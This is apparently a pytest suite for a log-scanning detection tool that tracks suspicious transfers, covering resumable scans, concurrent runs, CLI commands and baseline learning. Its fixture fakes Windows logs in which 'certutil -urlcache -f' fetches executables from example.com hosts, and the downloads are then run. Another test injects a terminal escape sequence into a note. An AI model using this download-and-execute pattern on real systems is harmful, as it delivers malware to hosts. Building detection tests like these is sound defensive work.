"""Scans into a store: told twice, killed at any moment, taught what is usual. Real processes, as a user runs them."""

from __future__ import annotations

import json
import os
import random
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from log_writer import Windows
from tidewaiter.cli import main
from tidewaiter.schema.transfer import Transfer
from tidewaiter.store import tables
from tidewaiter.store.store import open_store

PROGRAM = [sys.executable, "-c", "import sys; from tidewaiter.cli.main import main; main()"]
DOWNLOADS = 40


@pytest.fixture
def logs(tmp_path: Path) -> Path:
    """Logs of three hosts, with downloads that land and run."""
    folder = tmp_path / "logs"
    folder.mkdir()
    for number in range(3):
        windows = Windows(f"ws{number:02}.example.com")
        for at in range(DOWNLOADS):
            pid = 1_000 + at * 3
            target = f"C:\\Users\\ann\\AppData\\Local\\Temp\\f{at}.exe"
            url = f"http://files{at % 7}.example.com/f{at}.exe"
            windows.start(at * 60, pid, "C:\\Windows\\System32\\certutil.exe", f"certutil -urlcache -f {url} {target}")
            windows.connection(at * 60 + 1, pid, "198.51.100.7", 80, f"files{at % 7}.example.com")
            windows.file(at * 60 + 2, pid, target)
            windows.start(at * 60 + 3, pid + 1, target, target)
        (folder / f"ws{number:02}.json").write_text(windows.text(), encoding="utf-8")
    (folder / "notes.txt").write_text("no log\n" * 50, encoding="utf-8")
    return folder


def run(*arguments: str, code: int = 0, home: Path) -> subprocess.CompletedProcess[str]:
    done = subprocess.run(
        [*PROGRAM, *arguments],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        env={**os.environ, "TMPDIR": str(home)},
    )
    assert done.returncode == code, done.stderr
    return done


def contents(place: str) -> tuple[list[Transfer], list[object], list[object]]:
    """Everything that scans keep, without the times of keeping it."""
    with open_store(place, create=False) as store:
        inputs: list[object] = [(one.log_file, one.size, one.digest, one.state, one.accounts) for one in store.inputs()]
        with store.database.reading() as connection:
            rows = connection.execute(tables.evidence.select().order_by("transfer_id", "position")).all()
        return list(store.transfers()), inputs, [tuple(row) for row in rows]


def test_scanning_the_same_logs_twice_adds_nothing(place: str, logs: Path, tmp_path: Path) -> None:
    first = run("scan", str(logs), "--store", place, "--format", "jsonl", home=tmp_path)
    before = contents(place)
    second = run("scan", str(logs), "--store", place, "--format", "jsonl", "--min-severity", "critical", home=tmp_path)

    found = [json.loads(line) for line in first.stdout.splitlines()]
    assert len(found) == len(before[0]) >= 3 * DOWNLOADS
    assert f"{len(found)} added, 0 updated, 0 unchanged" in first.stderr
    assert f"0 added, 0 updated, {len(found)} unchanged" in second.stderr
    assert len(second.stdout.splitlines()) < len(found)
    assert contents(place) == before
    assert not list(tmp_path.glob("*resume*"))


def test_a_scan_killed_at_any_moment_is_completed_by_the_next(place: str, logs: Path, tmp_path: Path) -> None:
    calm = str(tmp_path / "calm.db")
    begun = time.monotonic()
    run("scan", str(logs), "--store", calm, home=tmp_path)
    whole = time.monotonic() - begun
    expected = contents(calm)
    chance = random.Random(whole)  # other moments in each run of the test
    killed = 0
    for part in (0.4, 0.65, 0.85):
        command = [*PROGRAM, "scan", str(logs), "--store", place]
        with (tmp_path / "out").open("w") as out:
            scan = subprocess.Popen(command, stdout=out, stderr=out, env={**os.environ, "TMPDIR": str(tmp_path)})
            time.sleep(whole * (part + chance.uniform(-0.1, 0.05)))
            killed += scan.poll() is None
            scan.send_signal(signal.SIGKILL)
            scan.wait()
    last = run("scan", str(logs), "--store", place, home=tmp_path)

    assert killed, "no scan was killed while it was at work"
    assert contents(place) == expected
    assert "Kept in" in last.stderr
    assert not list(tmp_path.glob("*resume*/*.item"))


def test_what_was_read_before_the_kill_is_not_read_again(logs: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The journal by itself: the reading is done, the correlation dies."""
    from tidewaiter.engines import local

    place = str(tmp_path / "store.db")

    def dies(*_: object) -> object:
        raise KeyboardInterrupt

    with open_store(place) as store:
        with monkeypatch.context() as patch, pytest.raises(KeyboardInterrupt):
            patch.setattr(local, "correlate", dies)
            local.scan([str(logs)], store=store)
        assert {one.state for one in store.inputs()} == {"partial"}
        notes = list(Path(f"{place}-resume").glob("*.item"))
        (logs / "ws00.json").write_text((logs / "ws01.json").read_text(encoding="utf-8"), encoding="utf-8")
        with local.scan([str(logs)], store=store) as found:
            assert found.keeping is not None
            assert found.keeping.resumed == 3 == len(notes) - 1  # the one that changed was read anew
            resumed = list(found.transfers())
        assert {one.state for one in store.inputs()} == {"done"}
    assert not Path(f"{place}-resume").exists()
    with local.scan([str(logs)]) as fresh:
        assert list(fresh.transfers()) == resumed


def test_two_scans_into_one_store_at_once(place: str, logs: Path, tmp_path: Path) -> None:
    half = tmp_path / "half"
    half.mkdir()
    (half / "ws01.json").write_bytes((logs / "ws01.json").read_bytes())
    both = [
        subprocess.Popen(
            [*PROGRAM, "scan", str(folder), "--store", place],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "TMPDIR": str(tmp_path)},
        )
        for folder in (logs, half)
    ]
    said = [scan.communicate(timeout=120)[1] for scan in both]

    assert [scan.returncode for scan in both] == [0, 0], said
    alone = str(tmp_path / "alone.db")
    run("scan", str(logs), "--store", alone, home=tmp_path)
    assert [one.id for one in contents(place)[0]] == [one.id for one in contents(alone)[0]]


Here = Callable[..., tuple[str, str]]


@pytest.fixture
def here(capsys: pytest.CaptureFixture[str]) -> Here:
    """A command line run in this process: what it wrote on standard output and standard error."""

    def call(*arguments: str, code: int = 0) -> tuple[str, str]:
        capsys.readouterr()
        ended = main.run(list(arguments))
        out, said = capsys.readouterr()
        assert ended == code, said
        return out, said

    return call


def test_the_commands_on_a_store(place: str, logs: Path, tmp_path: Path, here: Here) -> None:
    here("scan", str(logs / "ws00.json"), "--store", place)
    table = here("list", "--store", place, "--format", "jsonl", "--host", "ws00")
    first, second = (json.loads(line)["id"] for line in table[0].splitlines()[:2])
    here("verdict", first[:10], "benign", "--note", "\x1b[31mours", "--by", "ann", "--store", place)
    here("scan", str(logs / "ws00.json"), "--store", place)
    shown = here("show", first, "--store", place)[0]
    listed = here("list", "--store", place, "--verdict", "benign", "--format", "jsonl")[0]
    drawn = here("list", "--store", place, "--verdict", "benign")[0]

    assert "benign  ann" in shown
    assert "\\x1b[31mours" in shown
    assert "\x1b" not in shown
    assert [json.loads(line)["verdict"]["verdict"] for line in listed.splitlines()] == ["benign"]
    assert "benign" in drawn
    assert second not in listed
    assert "no transfer" in here("show", "zzzz", "--store", place, code=2)[1]
    assert "give either" in here("show", first, code=2)[1]
    assert "no store" in here("list", "--store", str(tmp_path / "none.db"), code=2)[1]


def test_a_scan_weighs_by_what_was_learned(place: str, logs: Path, tmp_path: Path, here: Here) -> None:
    usual = tmp_path / "usual"
    usual.mkdir()
    for number in range(4):
        windows = Windows(f"ws{number:02}.example.com")
        for day in range(-30, 0):
            windows.start(day * 86_400, 500, "C:\\Program Files\\Agent\\agent.exe", "agent.exe")
            windows.connection(day * 86_400 + 1, 500, "198.51.100.9", 443, "updates.example.org")
        (usual / f"ws{number:02}.json").write_text(windows.text(), encoding="utf-8")
    learned = here("baseline", "learn", str(usual), "--store", place)
    again = here("baseline", "learn", str(usual), "--store", place, "--half-life", "30")
    page = here("baseline", "show", "--store", place)[0]
    scanned = here("scan", str(logs / "ws00.json"), "--store", place, "--format", "jsonl")
    found = [json.loads(line) for line in scanned[0].splitlines()]
    reasons = {reason["id"]: reason["text"] for reason in found[0]["reasons"]}

    assert "Learned from 4 inputs" in learned[1]
    assert "Learned from 0 inputs; 4 inputs known already" in again[1]
    assert "agent example.org" in page
    assert "half-life 30 days" in page
    assert "29 days of history of 4 hosts" in reasons["utility_first_use"]
    assert "domain_first_seen" in reasons
    assert "half-life" in here("baseline", "learn", str(usual), "--store", place, "--half-life", "9", code=2)[1]
